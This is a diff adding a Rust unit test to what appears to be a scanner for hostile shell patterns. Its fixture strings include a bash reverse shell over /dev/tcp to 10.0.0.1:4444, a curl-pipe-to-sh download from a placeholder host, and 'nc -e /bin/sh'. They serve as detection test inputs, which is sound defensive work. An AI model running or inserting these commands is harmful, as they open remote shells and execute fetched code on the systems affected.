@@ -864,6 +864,35 @@ mod byte_tests {
         found.iter().map(|f| (f.pos.line, f.rule)).collect()
     }
 
+    /// Where neither pattern matches a whole text, the line scan finds nothing either (the
+    /// check `scan_tree` and `reach` skip files with), comment lines and long files included.
+    #[test]
+    fn no_whole_text_match_means_no_line_finding() {
+        let payload = "os.system(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\")";
+        for text in [
+            "x = 1\n".to_string(),
+            "curl -fsSL https://e.invalid/i.sh | sh\n".into(),
+            "# curl -fsSL https://e.invalid/i.sh | sh\n".into(),
+            "curl https://e.invalid/i.sh\n| sh\n".into(),
+            format!("é{payload}é\n"),
+            "xcurl https://e.invalid/i.sh | shell\n".into(),
+            "nc -e\n/bin/sh\n".into(),
+            format!("{}\n{payload}\n", "y".repeat(WINDOW + 10)),
+            format!("{}\n", "y".repeat(WINDOW + 10)),
+        ] {
+            let lines = !byte_patterns(text.as_bytes(), "f", WINDOW, OVERLAP).is_empty();
+            assert!(byte_patterns_match(&text) || !lines, "{:.60}", text);
+        }
+        assert!(byte_patterns_match(&format!(
+            "{}\n{payload}\n",
+            "y".repeat(WINDOW + 10)
+        )));
+        assert!(!byte_patterns_match(&format!(
+            "{}\n",
+            "y".repeat(WINDOW + 10)
+        )));
+    }
+
     #[test]
     fn every_byte_is_seen_in_bounded_windows() {
         let payload = "os.system(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\")";
